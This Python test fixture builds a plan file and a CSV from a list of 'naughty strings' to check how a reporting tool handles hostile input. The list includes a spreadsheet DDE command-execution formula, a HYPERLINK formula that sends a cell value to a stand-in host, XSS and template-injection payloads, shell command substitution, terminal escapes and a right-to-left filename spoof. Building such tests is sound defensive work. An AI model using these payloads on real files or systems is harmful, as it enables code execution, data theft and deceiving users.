"""Naughty strings: words that some reader, somewhere, would take for more than words.

Each becomes the name of a target and of a task, and the note of an entry of each; `write_naughty` makes the plan.
"""

import csv
import io
from pathlib import Path

from cases.running import write

NAUGHTY = (
    # formulas
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    '=HYPERLINK("http://x.example/?"&A1;"bấm")',
    "=cmd|' /C calc'!A0",
    "  =1+1",
    "\u00a0=1+1",
    "\u3000@A1",
    "\u3164=1+1",
    "＝1+1",
    "－1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\u200b=1+1",
    "'=1+1",
    '";=1+1;"',
    ",=1+1",
    "- gạch đầu dòng",
    "-5",
    "+84",
    "=",
    # markup
    "<script>alert(1)</script>",
    "</script><img src=x onerror=alert(1)>",
    '"onload="alert(1)',
    "' autofocus onfocus='alert(1)",
    "javascript:alert(1)",
    "<!-- chú thích -->",
    "<![CDATA[x]]>",
    "]]>",
    "&amp;lt;b&amp;gt;",
    "&#60;b&#62;",
    "&nbsp;",
    "<w:p/>",
    "{{ 7*7 }}",
    "{% raw %}",
    "{0} {period} {x!r}",
    "%s %d %(x)s",
    "${7*7}",
    "$(id) `id`",
    "\\input{x}",
    # Markdown and rich
    "a|b",
    "a\\|b",
    "\\",
    "**đậm** _nghiêng_ `mã` ~~gạch~~",
    "# 1. tiêu đề",
    "---",
    "- [ ] việc",
    "> trích",
    "[chữ](http://x.example)",
    "![ảnh](x)",
    "<http://x.example>",
    "http://x.example",
    "```",
    "[bold red]đỏ[/bold red]",
    "[/]",
    "[/lẻ]",
    ":smile:",
    # what steers a terminal or a reader's eye
    "\x1b[31mđỏ",
    "\x1b]0;tên\x07",
    "\x1b]8;;http://x.example\x1b\\bấm\x1b]8;;\x1b\\",
    "\x9b31m",
    "\x07\x08\x7f",
    "\x0b\x0c\x1c\x1d\x1e\x85",
    "a\x00b",
    "a\u2028b\u2029c",
    "\u202egpj.exe",
    "\u2066trái\u2069",
    "\u200f\u061c",
    "\ufeffđầu",
    "a\u00adb",
    "\ufffe\uffff",
    "hai\ndòng",
    "hai\r\ndòng",
    "hai\tcột",
    # letters
    "Đặng Thùy Trâm – “Hồ sơ” … ½ m²",
    "e\u0302\u0301 tổ hợp",
    "Z\u0335\u0321\u0353a\u0338\u0322l\u0337g\u0334o",
    "한국어 中文 日本語",
    "السلام عليكم",
    "👩\u200d👩\u200d👧 🇻🇳 👍🏽",
    "ﬁ ﷽ Ǆ ß",
    "0",
    "1e5",
    "3.10",
    "01/09/2025",
    "TRUE",
    "null",
    "N/A",
    "x" * 300,
    "rất dài " * 60,
)
"""Of our own making; none means anything to cchc."""


def target_id(number: int) -> str:
    return f"1.{number}"


def task_id(number: int) -> str:
    return f"nv_{number}"


def _quoted(word: str) -> str:
    """Return a word as a YAML string in double quotes, every letter but plain ones by its code."""
    return (
        '"' + "".join(c if c.isascii() and c.isalnum() else f"\\U{ord(c):08x}" for c in word) + '"'
    )


def write_naughty(folder: Path) -> Path:
    """Write a plan with a target of each name, and an entry with each as its note."""
    numbered = list(enumerate(NAUGHTY))
    figures = "".join(
        f"  - {{id: f{n}, name: {_quoted(word)}, type: count, over_time: sum, "
        f"measured_in: {_quoted(word)}, reported_by: [hcc]}}\n"
        for n, word in numbered
    )
    targets = "".join(
        f"      - {{id: {_quoted(target_id(n))}, clause: {_quoted(word)}, "
        f"name: {_quoted(word)}, text: {_quoted(word)}, "
        f'measure: {{total: [f{n}]}}, require: ">= {n % 3}"}}\n'
        for n, word in numbered
    )
    tasks = "".join(
        f"      - {{id: {task_id(n)}, clause: {_quoted(word)}, name: {_quoted(word)}, "
        f"text: {_quoted(word)}, due: 2025-09}}\n"
        for n, word in numbered
    )
    plan = f"""\
format: 1
id: xa_hu
title: Các chuỗi tinh quái
issuer: UBND xã
periods: {{first: 2025-09, last: 2025-12}}
units:
  - {{id: hcc, name: Một cửa}}
figures:
{figures}sections:
  - id: "1"
    title: Mục
    lead: hcc
    targets:
{targets}
    tasks:
{tasks}"""
    drawn = io.StringIO()
    rows = csv.writer(drawn, quoting=csv.QUOTE_ALL, lineterminator="\n")
    rows.writerow(["mã", "giá trị", "ghi chú"])
    # A file that holds NUL is refused as a whole.
    rows.writerows([f"f{n}", "1", word.replace("\x00", "")] for n, word in numbered)
    rows.writerows([task_id(n), "60%", word.replace("\x00", "")] for n, word in numbered)
    return write(folder, {"plan.yaml": plan, "data/2025-09/hcc.csv": drawn.getvalue()})
